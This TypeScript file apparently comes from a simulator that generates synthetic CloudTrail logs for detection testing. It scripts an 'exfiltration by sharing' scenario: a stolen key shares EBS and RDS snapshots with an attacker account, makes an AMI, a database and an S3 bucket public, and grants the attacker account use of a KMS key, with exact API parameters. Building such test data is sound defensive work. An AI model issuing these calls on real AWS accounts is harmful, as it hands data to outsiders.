// Exfiltration by sharing: nothing is copied out, access is handed over. A stolen key
// shares an EBS snapshot and an RDS snapshot with the attacker's account, makes an AMI
// public, opens the orders database to the internet, removes a bucket's public access
// block and gives it a public read policy, and lets the attacker's account use a KMS key.
import { api, type Ctx } from '../action';
import { iamUserKey } from '../identities';
import { upperAlnum, uuid } from '../ids';
import { AGENTS, ATTACKER_ACCOUNT, ATTACKER_IPS } from '../network';
import { accountByName, user } from '../org';
import { action } from '../services/index';
import { bucketBody } from '../services/s3';
import { MINUTE } from '../time';
import { Clock, caller, type Attack } from './common';
import { nth } from '../nth';

const V = '1.09';
const RDS = 'rds.amazonaws.com';
const exchange = (c: Ctx) => c.res.buckets.find((b) => b.purpose === 'partner-exchange')!;

const SHARE_SNAPSHOT = api('ec2.amazonaws.com', 'ModifySnapshotAttribute', { version: V }, (c) => ({
  requestParameters: {
    snapshotId: nth(c.res.snapshots, 0, 'snapshot'),
    attributeType: 'CREATE_VOLUME_PERMISSION',
    createVolumePermission: { add: { items: [{ userId: ATTACKER_ACCOUNT }] } },
  },
  responseElements: { requestId: c.requestId, _return: true },
}));
const PUBLIC_IMAGE = api('ec2.amazonaws.com', 'ModifyImageAttribute', { version: V }, (c) => ({
  requestParameters: {
    imageId: nth(c.res.images, 0, 'image'),
    attributeType: 'launchPermission',
    launchPermission: { add: { items: [{ group: 'all' }] } },
  },
  responseElements: { requestId: c.requestId, _return: true },
}));
const SHARE_DB_SNAPSHOT = api(RDS, 'ModifyDBSnapshotAttribute', { version: '1.08' }, () => ({
  requestParameters: { dBSnapshotIdentifier: 'orders-db-2025-03-01', attributeName: 'restore', valuesToAdd: [ATTACKER_ACCOUNT] },
  responseElements: {
    dBSnapshotIdentifier: 'orders-db-2025-03-01',
    dBSnapshotAttributes: [{ attributeName: 'restore', attributeValues: [ATTACKER_ACCOUNT] }],
  },
}));
const PUBLIC_DB = api(RDS, 'ModifyDBInstance', { version: '1.08' }, (c) => ({
  requestParameters: {
    dBInstanceIdentifier: 'orders-db',
    publiclyAccessible: true,
    applyImmediately: true,
    allowMajorVersionUpgrade: false,
  },
  responseElements: {
    dBInstanceIdentifier: 'orders-db',
    dBInstanceClass: 'db.r6g.large',
    engine: 'postgres',
    dBInstanceStatus: 'available',
    endpoint: {
      address: `orders-db.c${upperAlnum(c.rng, 11).toLowerCase()}.${c.region}.rds.amazonaws.com`,
      port: 5432,
      hostedZoneId: 'Z29XKXDKYMONMX',
    },
    publiclyAccessible: true,
    dBInstanceArn: `arn:aws:rds:${c.region}:${c.acct.account.id}:db:orders-db`,
    dbiResourceId: `db-${upperAlnum(c.rng, 26)}`,
    pendingModifiedValues: {},
    multiAZ: true,
    storageEncrypted: true,
  },
}));
const REMOVE_BLOCK = api('s3.amazonaws.com', 'DeletePublicAccessBlock', { version: '1.10' }, (c) =>
  bucketBody(c, exchange(c), { publicAccessBlock: '' }),
);
const PUBLIC_POLICY = api('s3.amazonaws.com', 'PutBucketPolicy', { version: '1.10' }, (c) => {
  const b = exchange(c);
  return bucketBody(c, b, {
    bucketPolicy: {
      Version: '2012-10-17',
      Statement: [{ Sid: 'PublicRead', Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${b.name}/*` }],
    },
    policy: '',
  });
});
const keyOf = (c: Ctx) => c.res.keys.find((k) => k.alias === 'alias/app-data')!;
const FOREIGN_KEY_POLICY = api('kms.amazonaws.com', 'PutKeyPolicy', { version: '1.08' }, (c) => ({
  requestParameters: {
    keyId: keyOf(c).id,
    policyName: 'default',
    policy: JSON.stringify({
      Version: '2012-10-17',
      Id: 'key-default-1',
      Statement: [
        {
          Sid: 'Enable IAM User Permissions',
          Effect: 'Allow',
          Principal: { AWS: `arn:aws:iam::${c.acct.account.id}:root` },
          Action: 'kms:*',
          Resource: '*',
        },
        {
          Sid: 'Allow use of the key',
          Effect: 'Allow',
          Principal: { AWS: `arn:aws:iam::${ATTACKER_ACCOUNT}:root` },
          Action: ['kms:Decrypt', 'kms:DescribeKey', 'kms:CreateGrant'],
          Resource: '*',
        },
      ],
    }),
    bypassPolicyLockoutSafetyCheck: false,
  },
  resources: [{ accountId: c.acct.account.id, type: 'AWS::KMS::Key', ARN: keyOf(c).arn }],
}));
const FOREIGN_GRANT = api('kms.amazonaws.com', 'CreateGrant', { version: '1.08' }, (c) => ({
  requestParameters: {
    keyId: keyOf(c).arn,
    granteePrincipal: `arn:aws:iam::${ATTACKER_ACCOUNT}:root`,
    operations: ['Decrypt', 'GenerateDataKey', 'DescribeKey'],
  },
  responseElements: { grantId: uuid(c.rng).replace(/-/g, '') + uuid(c.rng).replace(/-/g, '') },
  resources: [{ accountId: c.acct.account.id, type: 'AWS::KMS::Key', ARN: keyOf(c).arn }],
}));

export const shareWithForeignAccount: Attack = {
  name: 'share-with-foreign-account',
  description:
    "An EBS snapshot and an RDS snapshot shared with an outside account, an AMI made public, orders-db made publicly accessible, the partner-exchange bucket's public access block removed and a public-read policy put, and the app-data key opened to the outside account, with prod's partner-broker key from an unknown address",
  duration: 12 * MINUTE,
  run({ rng, org, t0 }) {
    const acct = accountByName(org, 'prod');
    const identity = iamUserKey(acct, user(acct, 'partner-broker'));
    const ip = ATTACKER_IPS[2];
    const { call, records } = caller({ rng, acct, identity, ip, ua: AGENTS.kali, clock: new Clock(t0, rng) });
    call(action('ec2:DescribeSnapshots'), 'eu-west-1');
    call(SHARE_SNAPSHOT, 'eu-west-1', {}, [10, 30]);
    call(PUBLIC_IMAGE, 'eu-west-1', {}, [10, 30]);
    call(SHARE_DB_SNAPSHOT, 'eu-west-1', {}, [10, 30]);
    call(PUBLIC_DB, 'eu-west-1', {}, [10, 30]);
    call(REMOVE_BLOCK, 'eu-west-1', {}, [10, 30]);
    call(PUBLIC_POLICY, 'eu-west-1', {}, [5, 15]);
    call(FOREIGN_KEY_POLICY, 'eu-west-1', {}, [10, 30]);
    call(FOREIGN_GRANT, 'eu-west-1', {}, [5, 15]);
    return {
      records,
      account: acct.account.id,
      principal: identity.arn!,
      sourceIPAddress: ip,
      details: { foreignAccount: ATTACKER_ACCOUNT },
    };
  },
};
